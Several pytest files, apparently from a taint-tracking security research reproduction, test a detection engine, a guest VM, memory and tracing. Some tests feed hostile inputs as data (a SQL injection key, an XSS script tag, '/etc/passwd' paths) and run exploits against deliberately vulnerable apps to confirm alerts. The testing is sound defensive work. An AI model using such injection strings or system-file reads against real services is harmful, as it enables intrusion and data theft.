        tmap.set_range(addr + 26, len(query) - 26, True)
        with pytest.raises(SecurityAlert):
            engine.check_use_point("sql", addr, query)

    def test_disabled_policy_not_checked(self):
        engine, tmap = make_engine()  # H policies off by default
        addr = put(tmap, b"/etc/passwd")
        tmap.set_range(addr, 11, True)
        engine.check_use_point("fopen", addr, b"/etc/passwd")
        assert not engine.alerts

    def test_unknown_use_point_rejected(self):
        engine, _ = make_engine()
        with pytest.raises(ValueError):
            engine.check_use_point("telnet", 0, b"")


class TestModes:
    def test_record_mode_collects_without_raising(self):
        engine, tmap = make_engine(mode="record", H1=True)
        addr = put(tmap, b"/etc/passwd")
        tmap.set_range(addr, 11, True)
        engine.check_use_point("fopen", addr, b"/etc/passwd")
        assert engine.detected("H1")
        assert len(engine.alerts) == 1

    def test_reset(self):
        engine, tmap = make_engine(mode="record", H1=True)
        addr = put(tmap, b"/x")
        tmap.set_range(addr, 2, True)
        engine.check_use_point("fopen", addr, b"/x")
        engine.reset()
        assert not engine.detected()

    def test_alert_message_names_attack(self):
        engine, _ = make_engine()
        with pytest.raises(SecurityAlert, match="De-referencing tainted pointer"):
            engine.on_fault(None, NaTConsumptionFault("load_addr"))


class TestRecordMode:
    def test_multiple_alerts_accumulate(self):
        engine, tmap = make_engine(mode="record", H1=True)
        addr = put(tmap, b"/etc/passwd")
        tmap.set_range(addr, 11, True)
        engine.check_use_point("fopen", addr, b"/etc/passwd")
        engine.check_use_point("fopen", addr, b"/etc/passwd")
        engine.on_fault(None, NaTConsumptionFault("load_addr"))
        assert len(engine.alerts) == 3
        assert [a.policy_id for a in engine.alerts] == ["H1", "H1", "L1"]

    def test_detected_filters_by_policy(self):
        engine, tmap = make_engine(mode="record", H1=True)
        addr = put(tmap, b"/etc/passwd")
        tmap.set_range(addr, 11, True)
        engine.check_use_point("fopen", addr, b"/etc/passwd")
        assert engine.detected()
        assert engine.detected("H1")
        assert not engine.detected("L1")
        assert not engine.detected("H3")

    def test_reset_clears_all_alerts(self):
        engine, tmap = make_engine(mode="record", H1=True)
        addr = put(tmap, b"/x")
        tmap.set_range(addr, 2, True)
        engine.check_use_point("fopen", addr, b"/x")
        engine.on_fault(None, NaTConsumptionFault("store_addr"))
        assert len(engine.alerts) == 2
        engine.reset()
        assert engine.alerts == [] and not engine.detected()

    def test_fault_alert_records_pc(self):
        engine, _ = make_engine(mode="record")
        engine.on_fault(None, NaTConsumptionFault("store_addr").at(41, None))
        alert = engine.alerts[0]
        assert alert.pc == 41
        assert alert.context == "pc=41"

    def test_alert_defaults_without_observability(self):
        # No cpu/provenance wired: the record still carries the new
        # fields, just unattributed.
        engine, _ = make_engine(mode="record")
        engine.on_fault(None, NaTConsumptionFault("load_addr"))
        alert = engine.alerts[0]
        assert alert.pc is None  # fault carried no pc
        assert alert.instruction_count == 0
        assert alert.origins == []

    def test_provenance_fields_round_trip(self):
        from repro.obs.provenance import ProvenanceTracker
        from repro.obs.tracer import Tracer

        engine, tmap = make_engine(mode="record", H1=True)
        tmap.provenance = ProvenanceTracker()
        engine.tracer = Tracer()
        addr = put(tmap, b"/etc/passwd")
        tmap.set_range(addr, 11, True)
        tmap.provenance.record("network", "request#1", 1, addr, 11)
        engine.check_use_point("fopen", addr, b"/etc/passwd")
        alert = engine.alerts[0]
        origin = alert.origins[0]
        assert (origin.source, origin.label) == ("network", "request#1")
        assert (origin.start, origin.length) == (0, 11)
        event = engine.tracer.last("alert")
        assert event.policy_id == "H1"
        assert event.origin_ids == (origin.origin_id,)
