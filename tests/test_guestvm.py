"""Guest scripting under DIFT: MiniScript assembler + VM end-to-end.

The interpreter-indirection proof (ROADMAP item 5): request bytes →
the MiniC VM's operand stack and string arena → the ``sql`` /
``html_output`` use points, with taint and origins intact the whole
way.  The VM is itself a guest program compiled and instrumented by
the repo's own pipeline, so nothing here is special-cased for it.
"""

import json

import pytest

from repro.apps.guestvm import (
    GUESTVM_KV_SOURCE,
    GUESTVM_TMPL_SOURCE,
    KV_SERVICE_SCRIPT,
    TEMPLATE_SERVICE_SCRIPT,
    kv_get_request,
    kv_pget_request,
    kv_set_request,
    sql_injection_request,
    template_request,
    xss_request,
)
from repro.guestvm.asm import (
    MAX_CONSTS,
    MiniScriptError,
    Op,
    assemble,
    disassemble,
)
from repro.harness.guestbench import (
    GUEST_OPTIONS,
    GUEST_WATCHDOG,
    detection_campaign,
    fleet_smoke,
)
from repro.harness.runners import (
    build_web_machine,
    guest_backend_policy,
    guestvm_policy,
)


# ---------------------------------------------------------------------------
# Assembler
# ---------------------------------------------------------------------------


class TestAssembler:
    def test_container_magic_and_counts(self):
        out = assemble('let x = "hi";\nemit(x + "!");')
        assert out.blob[:4] == b"MSB1"
        assert out.blob[4] == 1            # version
        assert out.blob[5] == len(out.consts)
        assert b"hi" in out.blob and b"!" in out.blob

    def test_consts_are_deduplicated(self):
        out = assemble('emit("a"); emit("a"); emit("b");')
        assert out.consts.count(b"a") == 1

    def test_entry_runs_before_defs(self):
        out = assemble('render();\ndef render { emit("x"); }')
        # top-level code ends with HALT before any def body
        assert out.code[out.entry_length - 1] == Op.HALT
        assert len(out.funcs) == 1
        assert out.funcs["render"] >= out.entry_length

    def test_forward_reference_backpatched(self):
        out = assemble('helper();\ndef helper { emit("later"); }')
        # CALL operand must point at the (single) def
        idx = out.code.index(Op.CALL)
        assert out.code[idx + 1] == 0

    def test_disassemble_lists_consts_and_ops(self):
        text = disassemble(assemble('emit("hello" + arg);').blob)
        assert "b'hello'" in text
        assert "EMIT" in text and "ARG" in text and "HALT" in text

    def test_opcode_values_are_stable(self):
        # The MiniC VM dispatches on these numbers; they are ABI.
        assert Op.HALT == 0 and Op.PUSHI == 1 and Op.PUSHC == 2
        assert Op.SQL == 30 and Op.SQLP == 31 and Op.EMIT == 32
        assert Op.CALL == 34 and Op.RET == 35

    def test_undeclared_variable_rejected(self):
        with pytest.raises(MiniScriptError, match="undeclared"):
            assemble("emit(nope);")

    def test_double_declaration_rejected(self):
        with pytest.raises(MiniScriptError, match="already declared"):
            assemble("let a = 1;\nlet a = 2;")

    def test_unterminated_string_reports_line(self):
        with pytest.raises(MiniScriptError, match="line 2"):
            assemble('let a = 1;\nlet b = "oops;')

    def test_undefined_call_rejected(self):
        with pytest.raises(MiniScriptError, match="undefined def"):
            assemble("missing();")

    def test_nested_def_rejected(self):
        with pytest.raises(MiniScriptError, match="top level"):
            assemble("if 1 { def f { emit(\"x\"); } }")

    def test_const_pool_limit_enforced(self):
        body = "".join(f'emit("s{i}");\n' for i in range(MAX_CONSTS + 1))
        with pytest.raises(MiniScriptError, match="too many string"):
            assemble(body)

    def test_service_scripts_assemble(self):
        for script in (KV_SERVICE_SCRIPT, TEMPLATE_SERVICE_SCRIPT):
            out = assemble(script)
            assert out.blob[:4] == b"MSB1"
            assert len(out.blob) < 2000


# ---------------------------------------------------------------------------
# VM end-to-end under SHIFT
# ---------------------------------------------------------------------------


def run_guest(variant, requests, **kwargs):
    kwargs.setdefault("policy_config", guestvm_policy())
    kwargs.setdefault("engine_mode", "log")
    kwargs.setdefault("tracing", True)
    machine = build_web_machine(variant, GUEST_OPTIONS, **kwargs)
    for request in requests:
        machine.net.add_request(request)
    machine.run(max_instructions=500_000_000)
    return machine


class TestKvService:
    @pytest.fixture(scope="class")
    def machine(self):
        return run_guest("guest-kv", [
            kv_set_request("user1", "alice"),
            kv_get_request("user1"),
            kv_pget_request("user1"),
            kv_get_request("missing"),
            sql_injection_request(),
            kv_pget_request("x' OR '1'='1"),
        ])

    def test_clean_requests_served(self, machine):
        out = [bytes(c.outbound) for c in machine.net.completed]
        assert out[0] == b"OK"
        assert out[1] == b"VALUE alice"
        assert out[2] == b"VALUE alice"
        assert out[3] == b"VALUE "

    def test_queries_reach_the_sql_sink(self, machine):
        assert "SELECT v FROM kv WHERE k='user1'" in machine.executed_queries
        # parameterized control: only the placeholder text is executed
        assert "SELECT v FROM kv WHERE k=?" in machine.executed_queries

    def test_h3_fires_only_on_injection(self, machine):
        assert [a.policy_id for a in machine.alerts] == ["H3"]
        assert "metachar" in machine.alerts[0].message

    def test_origins_reach_request_bytes(self, machine):
        # request #5 (1-based) is the injection
        origins = [o.describe() for o in machine.alerts[0].origins]
        assert any("network 'request#5'" in o for o in origins)

    def test_parameterized_control_is_silent(self, machine):
        # the SAME hostile key went through PGET (request 6): no alert
        assert len(machine.alerts) == 1


class TestTemplateService:
    @pytest.fixture(scope="class")
    def machine(self):
        return run_guest("guest-tmpl", [
            template_request("world"),
            template_request("<b>bold</b>"),
            xss_request(),
            template_request("<script>alert(1)</script>", escaped=True),
        ])

    def test_pages_rendered_through_the_vm(self, machine):
        out = [bytes(c.outbound) for c in machine.net.completed]
        assert out[0] == b"<html><body><p>Hello world</p></body></html>"
        assert b"<b>bold</b>" in out[1]

    def test_escape_opcode_neutralizes_payload(self, machine):
        escaped = bytes(machine.net.completed[3].outbound)
        assert b"<script" not in escaped
        assert b"&lt;script&gt;" in escaped

    def test_h5_fires_only_on_raw_script(self, machine):
        assert [a.policy_id for a in machine.alerts] == ["H5"]
        origins = [o.describe() for o in machine.alerts[0].origins]
        assert any("network 'request#3'" in o for o in origins)

    def test_tainted_markup_without_script_is_clean(self, machine):
        # request 2 emitted tainted "<b>bold</b>" unescaped: no alert
        assert len(machine.alerts) == 1


class TestRecoverMode:
    def test_attack_quarantined_clean_served(self):
        machine = run_guest("guest-kv", [
            kv_set_request("a", "1"),
            sql_injection_request(),
            kv_get_request("a"),
        ], engine_mode="recover", recover_watchdog=GUEST_WATCHDOG)
        assert len(machine.net.quarantined) == 1
        assert [bytes(c.outbound) for c in machine.net.completed] == [
            b"OK", b"VALUE 1"]
        incidents = machine.resil.incidents
        assert len(incidents) == 1
        assert incidents[0].reason == "alert"
        assert incidents[0].policy_id == "H3"
        assert incidents[0].request_index == 2

    def test_xss_quarantined(self):
        machine = run_guest("guest-tmpl", [
            template_request("ok"),
            xss_request(),
        ], engine_mode="recover", recover_watchdog=GUEST_WATCHDOG)
        assert len(machine.net.quarantined) == 1
        assert machine.resil.incidents[0].policy_id == "H5"


class TestAdaptiveMode:
    def test_clean_scripts_requiesce_and_switch(self):
        machine = run_guest("guest-tmpl", [
            template_request("plain"),
            template_request("also", escaped=True),
            template_request("third"),
        ], adaptive="on")
        assert not machine.alerts
        assert machine.adaptive.switches_to_fast >= 1
        assert machine.adaptive.switches_to_track >= 1

    def test_adaptive_alerts_match_track(self):
        requests = [template_request("a"), xss_request(),
                    template_request("b")]
        sig = {}
        for mode in ("on", "track"):
            machine = run_guest("guest-tmpl", requests, adaptive=mode)
            sig[mode] = [(a.policy_id, a.message, a.context)
                         for a in machine.alerts]
        assert sig["on"] == sig["track"]
        assert [s[0] for s in sig["on"]] == ["H5"]


class TestFleetWire:
    def test_wire_tags_are_load_bearing(self):
        entry = fleet_smoke(seed=3, engine="predecoded")
        # tagged attack quarantined; untagged twin + clean both served
        assert entry["exact"], entry
        assert entry["served"] == 3 and entry["quarantined"] == 1
        assert entry["alerts"][0]["policy_id"] == "H5"
        assert entry["digest_stable"]

    def test_interior_policy_trusts_plain_ingress(self):
        # direct proof at machine level: backend policy + raw bytes
        machine = run_guest("guest-tmpl", [xss_request()],
                            policy_config=guest_backend_policy())
        assert not machine.alerts


class TestGuestbench:
    def test_detection_campaign_gates(self):
        entry = detection_campaign("kv", seed=99, clean=3, attacks=2,
                                   engine="predecoded")
        assert entry["exact"], entry
        assert entry["detection_rate"] == 1.0
        assert entry["origins_ok"] and entry["digest_stable"]
        assert entry["clean_false_alerts"] == 0

    def test_report_is_json_serialisable(self):
        entry = detection_campaign("template", seed=7, clean=2, attacks=1,
                                   engine="predecoded")
        assert json.loads(json.dumps(entry))["service"] == "template"


class TestSourcesRegistered:
    def test_vm_sources_embed_the_bytecode(self):
        for source in (GUESTVM_KV_SOURCE, GUESTVM_TMPL_SOURCE):
            assert "char code[" in source
            assert "vm_run" in source
        # 77, 83, 66, 49 == "MSB1"
        assert "77, 83, 66, 49" in GUESTVM_KV_SOURCE

    def test_variants_present(self):
        from repro.harness.runners import WEB_VARIANTS

        assert WEB_VARIANTS["guest-kv"] == GUESTVM_KV_SOURCE
        assert WEB_VARIANTS["guest-tmpl"] == GUESTVM_TMPL_SOURCE
