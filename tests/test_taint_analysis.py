"""Unit tests for the static possibly-tainted analysis."""

from repro.compiler.taint_analysis import possibly_tainted_before
from repro.isa import Label, parse_instruction


def states_for(lines):
    items = []
    for line in lines:
        if line.endswith(":"):
            items.append(Label(line[:-1]))
        else:
            items.append(parse_instruction(line))
    return items, possibly_tainted_before(items)


class TestTransfer:
    def test_load_makes_destination_tainted(self):
        # r4/r5 are callee-saved: clean at entry (unlike r8-r39, which
        # are conservatively treated as possibly tainted).
        items, states = states_for([
            "movl r14 = 100",
            "movl r4 = 0",
            "ld8 r4 = [r14]",
            "add r5 = r4, r4",
            "nop",
        ])
        assert 4 not in states[2]  # before the load (just laundered)
        assert 4 in states[3]  # after the load
        assert 5 in states[4]  # propagated through the add

    def test_movl_launders(self):
        _, states = states_for([
            "ld8 r15 = [r14]",
            "movl r15 = 7",
            "nop",
        ])
        assert 15 not in states[2]

    def test_clean_alu_launders(self):
        _, states = states_for([
            "ld8 r15 = [r14]",
            "movl r20 = 1",
            "movl r21 = 2",
            "add r15 = r20, r21",
            "nop",
        ])
        assert 15 not in states[4]

    def test_taint_propagates_through_alu(self):
        _, states = states_for([
            "ld8 r15 = [r14]",
            "movl r20 = 1",
            "add r21 = r20, r15",
            "nop",
        ])
        assert 21 in states[3]

    def test_entry_args_possibly_tainted(self):
        _, states = states_for(["nop"])
        assert 32 in states[0]  # first argument register
        assert 8 in states[0]  # return register

    def test_predicated_write_keeps_old_state(self):
        # A predicated-off write may not happen: conservatively the
        # destination stays possibly tainted if it was before.
        _, states = states_for([
            "ld8 r15 = [r14]",
            "(p6) movl r20 = 1",
            "(p6) mov r15 = r20",
            "nop",
        ])
        assert 15 in states[3]

    def test_call_clobbers_caller_saved(self):
        _, states = states_for([
            "movl r14 = 1",
            "movl r4 = 2",
            "br.call b0 = helper",
            "nop",
            "helper:",
            "br.ret b0",
        ])
        assert 14 in states[3]  # caller-saved: may return tainted
        assert 4 not in states[3]  # callee-saved survives clean


class TestControlFlow:
    def test_join_merges_states(self):
        _, states = states_for([
            "cmp.eq p6, p7 = r20, r21",
            "(p6) br.cond taken",
            "movl r15 = 1",  # clean on this path
            "br join",
            "taken:",
            "ld8 r15 = [r14]",  # tainted on this path
            "join:",
            "nop",
        ])
        # At the join the union applies: r15 possibly tainted.
        join_index = 7
        assert 15 in states[join_index]

    def test_loop_reaches_fixpoint(self):
        _, states = states_for([
            "movl r15 = 0",
            "loop:",
            "add r16 = r15, r15",
            "ld8 r15 = [r14]",  # taints r15 for the next iteration
            "(p6) br.cond loop",
            "nop",
        ])
        # Second and later iterations see tainted r15 at the loop head.
        loop_body_index = 2
        assert 15 in states[loop_body_index]
