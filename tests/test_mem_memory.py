"""Sparse-memory tests."""

import pytest
from hypothesis import given, strategies as st

from repro.mem.address import IMPL_BITS, make_address
from repro.mem.memory import MemoryError_, PAGE_SIZE, SparseMemory


def data_addr(offset):
    return make_address(2, offset)


class TestScalarAccess:
    def test_zero_initialised(self):
        mem = SparseMemory()
        assert mem.load(data_addr(0x500), 8) == 0

    def test_store_load_roundtrip(self):
        mem = SparseMemory()
        mem.store(data_addr(0x10), 8, 0x1122334455667788)
        assert mem.load(data_addr(0x10), 8) == 0x1122334455667788

    def test_little_endian(self):
        mem = SparseMemory()
        mem.store(data_addr(0x10), 4, 0xAABBCCDD)
        assert mem.load(data_addr(0x10), 1) == 0xDD
        assert mem.load(data_addr(0x13), 1) == 0xAA

    def test_store_truncates_to_size(self):
        mem = SparseMemory()
        mem.store(data_addr(0x20), 1, 0x1FF)
        assert mem.load(data_addr(0x20), 1) == 0xFF

    def test_cross_page_access(self):
        mem = SparseMemory()
        addr = data_addr(PAGE_SIZE - 4)
        mem.store(addr, 8, 0x0102030405060708)
        assert mem.load(addr, 8) == 0x0102030405060708

    def test_unimplemented_address_rejected(self):
        mem = SparseMemory()
        with pytest.raises(MemoryError_):
            mem.load(1 << (IMPL_BITS + 3), 8)

    @given(st.integers(min_value=0, max_value=1 << 30),
           st.integers(min_value=0, max_value=(1 << 64) - 1),
           st.sampled_from([1, 2, 4, 8]))
    def test_roundtrip_property(self, offset, value, size):
        mem = SparseMemory()
        addr = data_addr(offset)
        mem.store(addr, size, value)
        assert mem.load(addr, size) == value & ((1 << (8 * size)) - 1)


class TestBulkAccess:
    def test_write_read_bytes(self):
        mem = SparseMemory()
        mem.write_bytes(data_addr(0x100), b"hello world")
        assert mem.read_bytes(data_addr(0x100), 11) == b"hello world"

    def test_cross_page_bulk(self):
        mem = SparseMemory()
        blob = bytes(range(256)) * 40  # > 2 pages
        mem.write_bytes(data_addr(PAGE_SIZE - 100), blob)
        assert mem.read_bytes(data_addr(PAGE_SIZE - 100), len(blob)) == blob

    @given(st.binary(min_size=1, max_size=5000),
           st.integers(min_value=0, max_value=1 << 20))
    def test_bulk_roundtrip_property(self, blob, offset):
        mem = SparseMemory()
        mem.write_bytes(data_addr(offset), blob)
        assert mem.read_bytes(data_addr(offset), len(blob)) == blob


class TestCString:
    def test_read_cstring(self):
        mem = SparseMemory()
        mem.write_bytes(data_addr(0x40), b"taint\x00junk")
        assert mem.read_cstring(data_addr(0x40)) == b"taint"

    def test_empty_string(self):
        mem = SparseMemory()
        assert mem.read_cstring(data_addr(0x50)) == b""

    def test_unterminated_raises(self):
        mem = SparseMemory()
        mem.write_bytes(data_addr(0), b"x" * 64)
        with pytest.raises(MemoryError_):
            mem.read_cstring(data_addr(0), limit=16)


class TestPages:
    def test_lazy_allocation(self):
        mem = SparseMemory()
        assert mem.pages_touched() == 0
        mem.store(data_addr(0), 1, 1)
        mem.store(data_addr(1), 1, 1)
        assert mem.pages_touched() == 1
        mem.store(data_addr(PAGE_SIZE), 1, 1)
        assert mem.pages_touched() == 2
