"""Machine configuration knobs: device costs, cache and issue configs."""

from repro.core.shift import build_machine
from repro.cpu.perf import IssueConfig
from repro.mem.cache import CacheConfig, HierarchyConfig
from repro.runtime.devices import DeviceCosts

SOURCE = """
native int read(int fd, char *buf, int n);
char buf[256];
int main() {
    int n = read(0, buf, 200);
    int s = 0;
    for (int i = 0; i < n; i++) s += buf[i];
    return s & 0xff;
}
"""

STDIN = bytes(range(200))


def run(**kwargs):
    machine = build_machine(SOURCE, stdin=STDIN, **kwargs)
    machine.exit_code = machine.run()
    return machine


class TestDeviceCosts:
    def test_costlier_devices_raise_io_cycles(self):
        cheap = run(costs=DeviceCosts(file_base=100, file_byte=0.1))
        pricey = run(costs=DeviceCosts(file_base=100_000, file_byte=50))
        assert pricey.counters.io_cycles > cheap.counters.io_cycles * 10
        assert pricey.exit_code == cheap.exit_code  # results unchanged


class TestIssueConfig:
    def test_narrow_machine_is_slower(self):
        wide = run(issue_config=IssueConfig(width=6))
        narrow = run(issue_config=IssueConfig(width=1, mem_ports=1))
        assert narrow.counters.compute_cycles > wide.counters.compute_cycles
        assert narrow.exit_code == wide.exit_code

    def test_branch_penalty_visible(self):
        cheap = run(issue_config=IssueConfig(branch_penalty=0))
        costly = run(issue_config=IssueConfig(branch_penalty=10))
        assert costly.counters.branch_penalty_cycles > \
            cheap.counters.branch_penalty_cycles


class TestCacheConfig:
    def test_tiny_cache_stalls_more(self):
        big = run()
        tiny = run(cache_config=HierarchyConfig(
            l1=CacheConfig(256, 1, line_bytes=64),
            l2=CacheConfig(1024, 2, line_bytes=64),
            l3=CacheConfig(4096, 4, line_bytes=64),
        ))
        assert tiny.counters.stall_cycles >= big.counters.stall_cycles
        assert tiny.exit_code == big.exit_code


class TestDeterminism:
    def test_identical_runs_identical_cycles(self):
        first = run()
        second = run()
        assert first.counters.cycles == second.counters.cycles
        assert first.counters.instructions == second.counters.instructions
