"""Program container and NaT-propagation property tests."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.cpu import CPU
from repro.isa import (
    DataItem,
    GR,
    Instruction,
    Label,
    Program,
    ProgramBuilder,
    assemble,
)
from repro.mem import SparseMemory


class TestProgramBuilder:
    def test_function_ranges(self):
        builder = ProgramBuilder()
        builder.begin_function("a")
        builder.emit(Instruction("nop"))
        builder.emit(Instruction("nop"))
        builder.end_function()
        builder.begin_function("b")
        builder.emit(Instruction("nop"))
        builder.end_function()
        program = builder.build(entry="a")
        assert program.functions["a"] == (0, 2)
        assert program.functions["b"] == (2, 3)
        assert len(program.function_code("a")) == 2

    def test_nested_function_rejected(self):
        builder = ProgramBuilder()
        builder.begin_function("a")
        with pytest.raises(ValueError):
            builder.begin_function("b")

    def test_unterminated_function_rejected(self):
        builder = ProgramBuilder()
        builder.begin_function("a")
        with pytest.raises(ValueError):
            builder.build()

    def test_duplicate_data_rejected(self):
        builder = ProgramBuilder()
        builder.add_data(DataItem(name="x", size=8))
        with pytest.raises(ValueError):
            builder.add_data(DataItem(name="x", size=16))

    def test_extend_with_labels(self):
        builder = ProgramBuilder()
        builder.begin_function("main")
        builder.extend([Instruction("nop"), Label("mid"), Instruction("nop")])
        builder.end_function()
        program = builder.build()
        assert program.labels["mid"] == 1

    def test_data_item_init_too_long(self):
        with pytest.raises(ValueError):
            DataItem(name="x", size=2, init=b"toolong")

    def test_listing_shows_labels_and_code(self):
        program = assemble("""
        func main:
            movl r14 = 1
        loop:
            br.cond loop
        endfunc
        """)
        listing = program.listing()
        assert "main:" in listing
        assert "loop:" in listing
        assert "movl r14 = 1" in listing


ALU_OPS = ["add", "sub", "and", "or", "xor", "mul", "shl"]


class TestNaTPropagationProperty:
    """Hardware invariant: taint is sticky through data-flow chains."""

    @settings(max_examples=40, deadline=None)
    @given(
        ops=st.lists(st.tuples(st.sampled_from(ALU_OPS), st.booleans()),
                     min_size=1, max_size=8),
        taint_first=st.booleans(),
    )
    def test_chain_propagates_nat(self, ops, taint_first):
        """A chain r20 = f(...f(r20, rX)) stays NaT iff any input was."""
        lines = ["func main:", "    movl r20 = 3", "    movl r21 = 5"]
        if taint_first:
            lines.append("    settag r20")
        any_taint = taint_first
        for op, taint_operand in ops:
            if taint_operand:
                lines.append("    settag r21")
                any_taint = True
            lines.append(f"    {op} r20 = r20, r21")
            lines.append("    movl r21 = 5")  # refresh the clean operand
        lines += ["    break 0x100000", "endfunc"]
        program = assemble("\n".join(lines))

        def exit_syscall(cpu):
            cpu.halted = True

        cpu = CPU(program, SparseMemory(), syscall_handler=exit_syscall)
        cpu.run(max_instructions=10_000)
        assert cpu.read_nat(20) == any_taint

    @settings(max_examples=20, deadline=None)
    @given(op=st.sampled_from(ALU_OPS))
    def test_movl_always_launders(self, op):
        program = assemble(f"""
        func main:
            movl r20 = 3
            settag r20
            {op} r21 = r20, r20
            movl r21 = 9
            break 0x100000
        endfunc
        """)

        def exit_syscall(cpu):
            cpu.halted = True

        cpu = CPU(program, SparseMemory(), syscall_handler=exit_syscall)
        cpu.run(max_instructions=1_000)
        assert not cpu.read_nat(21)
