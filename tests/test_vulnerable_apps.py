"""Security evaluation of the Table 2 applications plus Fig. 1."""

import pytest

from repro.apps.vulnerable import FIGURE1_APP, TABLE2_APPS
from repro.compiler.instrument import UNINSTRUMENTED
from repro.harness.table2 import (
    BYTE_STRICT,
    WORD_STRICT,
    _run_scenario,
    evaluate_app,
    unprotected_config,
)

APPS_BY_NAME = {app.name: app for app in TABLE2_APPS}


@pytest.mark.parametrize("app", TABLE2_APPS, ids=[a.name for a in TABLE2_APPS])
class TestTable2Apps:
    def test_exploit_succeeds_unprotected(self, app):
        machine = _run_scenario(app, UNINSTRUMENTED, unprotected_config(), app.attack)
        assert app.compromised(machine), f"{app.name}: exploit must work unprotected"

    def test_benign_unprotected_is_not_compromised(self, app):
        machine = _run_scenario(app, UNINSTRUMENTED, unprotected_config(), app.benign)
        assert not app.compromised(machine)

    def test_detected_at_byte_level(self, app):
        machine = _run_scenario(app, BYTE_STRICT, app.policy_config(), app.attack)
        assert machine.alerts, f"{app.name}: attack must be detected"
        assert machine.alerts[0].policy_id == app.expected_policy

    def test_no_false_positive_at_byte_level(self, app):
        machine = _run_scenario(app, BYTE_STRICT, app.policy_config(), app.benign)
        assert not machine.alerts, f"{app.name}: benign run raised an alert"


@pytest.mark.parametrize("name", ["qwikiwiki", "bftpd", "scry"])
class TestWordLevelDetection:
    """Word-level spot checks (the full matrix runs in the benchmark)."""

    def test_detected_at_word_level(self, name):
        app = APPS_BY_NAME[name]
        machine = _run_scenario(app, WORD_STRICT, app.policy_config(), app.attack)
        assert machine.alerts
        assert machine.alerts[0].policy_id == app.expected_policy

    def test_no_false_positive_at_word_level(self, name):
        app = APPS_BY_NAME[name]
        machine = _run_scenario(app, WORD_STRICT, app.policy_config(), app.benign)
        assert not machine.alerts


class TestEvaluateApp:
    def test_full_evaluation_of_tar(self):
        evaluation = evaluate_app(APPS_BY_NAME["tar"])
        assert evaluation.attack_succeeds_unprotected
        assert evaluation.detected
        assert evaluation.clean
        assert evaluation.alert_policy_byte == "H1"


class TestFigure1QwikSmtpd:
    """The paper's running example: overflow -> tainted localip."""

    def test_attack_relays_mail_unprotected(self):
        app = FIGURE1_APP
        machine = _run_scenario(app, UNINSTRUMENTED, unprotected_config(), app.attack)
        assert machine.read_global("relayed") == 1

    def test_benign_relay_denied(self):
        app = FIGURE1_APP
        machine = _run_scenario(app, UNINSTRUMENTED, unprotected_config(), app.benign)
        assert machine.read_global("relayed") == 0

    def test_shift_detects_tainted_localip(self):
        app = FIGURE1_APP
        machine = _run_scenario(app, BYTE_STRICT, app.policy_config(), app.attack)
        assert machine.read_global("relayed") == 0
        assert "ALERT" in machine.console.text
        # The overflow taint is visible in the bitmap at localip.
        assert machine.taint_map.is_tainted(machine.address_of("localip"))

    def test_shift_benign_run_clean(self):
        app = FIGURE1_APP
        machine = _run_scenario(app, BYTE_STRICT, app.policy_config(), app.benign)
        assert "ALERT" not in machine.console.text
        assert not machine.taint_map.is_tainted(machine.address_of("localip"))

    def test_overflow_reaches_localip(self):
        """The memory layout reproduces Fig. 1: clientHELO overflows
        directly into localip."""
        app = FIGURE1_APP
        machine = _run_scenario(app, UNINSTRUMENTED, unprotected_config(), app.attack)
        assert machine.read_string("localip") == b"10.7.7.7"
