"""Observability subsystem: events, tracer, provenance, metrics, forensics.

Covers the repro.obs package in isolation plus its Machine integration:
the zero-overhead disabled path (SPEC counters bit-identical with
tracing off) and the end-to-end origin chain for crafted overflows — a
low-level (NaT fault) and a high-level (use point) detection each name
the input bytes that caused the alert.
"""

import json

import pytest

from repro.apps.spec import BENCHMARKS
from repro.apps.vulnerable import BFTPD, QWIKIWIKI
from repro.core.shift import build_machine, compile_protected
from repro.cpu.faults import Fault
from repro.harness.runners import PERF_OPTIONS, spec_policy
from repro.harness.table2 import BYTE_STRICT
from repro.obs.events import (
    EVENT_TYPES,
    AlertEvent,
    FaultEvent,
    SyscallEvent,
    TaintSourceEvent,
    TaintStoreEvent,
)
from repro.obs.metrics import MetricsRegistry, collect_machine
from repro.obs.provenance import ProvenanceTracker
from repro.obs.report import disassemble_window, render_incidents
from repro.obs.tracer import Tracer
from repro.taint.engine import SecurityAlert

SOURCE = """
native int read(int fd, char *buf, int n);
char buf[64];
int main() {
    int n = read(0, buf, 32);
    int s = 0;
    for (int i = 0; i < n; i++) s += buf[i];
    return s & 0xff;
}
"""


class TestEvents:
    def test_kinds_are_unique(self):
        kinds = [cls.KIND for cls in EVENT_TYPES]
        assert len(kinds) == len(set(kinds))
        assert "event" not in kinds  # every subclass overrides the base

    def test_to_dict_carries_kind_and_fields(self):
        event = TaintSourceEvent(source="network", label="request#1",
                                 addr=0x1000, length=8, origin_id=1,
                                 stream_offset=0, instruction_count=42)
        data = event.to_dict()
        assert data["kind"] == "taint_source"
        assert data["addr"] == 0x1000
        assert json.loads(json.dumps(data)) == data  # JSONL-safe

    def test_field_names_documents_schema(self):
        assert "origin_id" in TaintSourceEvent.field_names()
        assert "pc" in FaultEvent.field_names()
        assert "origin_ids" in AlertEvent.field_names()


class TestTracer:
    def test_emit_filter_last(self):
        tracer = Tracer()
        tracer.emit(SyscallEvent(name="read"))
        tracer.emit(TaintStoreEvent(op="set", addr=0x10, length=4))
        tracer.emit(SyscallEvent(name="recv"))
        assert len(tracer) == 3
        assert [e.name for e in tracer.events("syscall")] == ["read", "recv"]
        assert tracer.last("syscall").name == "recv"
        assert tracer.last("taint_store").op == "set"
        assert tracer.last("fault") is None

    def test_ring_buffer_drops_oldest(self):
        tracer = Tracer(capacity=4)
        for i in range(6):
            tracer.emit(SyscallEvent(name=f"call{i}"))
        assert len(tracer) == 4
        assert tracer.total_events == 6
        assert tracer.dropped == 2
        assert tracer.events()[0].name == "call2"  # 0 and 1 rolled off

    def test_invalid_capacity_rejected(self):
        with pytest.raises(ValueError):
            Tracer(capacity=0)

    def test_summary_and_clear(self):
        tracer = Tracer()
        tracer.emit(SyscallEvent(name="read"))
        tracer.emit(SyscallEvent(name="read"))
        summary = tracer.summary()
        assert summary["events.syscall"] == 2
        assert summary["events.total"] == 2
        assert summary["events.dropped"] == 0
        tracer.clear()
        assert len(tracer) == 0 and tracer.summary()["events.total"] == 0

    def test_jsonl_round_trip(self, tmp_path):
        tracer = Tracer()
        tracer.emit(FaultEvent(fault="NaTConsumptionFault", detail="store_addr",
                               pc=7, instruction="st8 [r4] = r5"))
        path = tmp_path / "trace.jsonl"
        assert tracer.export_jsonl(str(path)) == 1
        lines = path.read_text().splitlines()
        assert len(lines) == 1
        record = json.loads(lines[0])
        assert record["kind"] == "fault" and record["pc"] == 7


class TestProvenance:
